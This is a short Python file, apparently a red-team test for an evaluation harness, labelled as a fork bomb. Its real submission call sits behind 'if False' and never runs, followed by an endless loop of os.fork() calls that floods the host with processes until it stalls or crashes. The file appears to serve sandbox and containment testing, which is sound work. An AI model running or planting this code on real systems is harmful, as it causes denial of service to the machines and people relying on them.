"""Red team 9a: a fork bomb."""

import os

import harness

if False:
    harness.submit(harness.batches(1))
while True:
    os.fork()
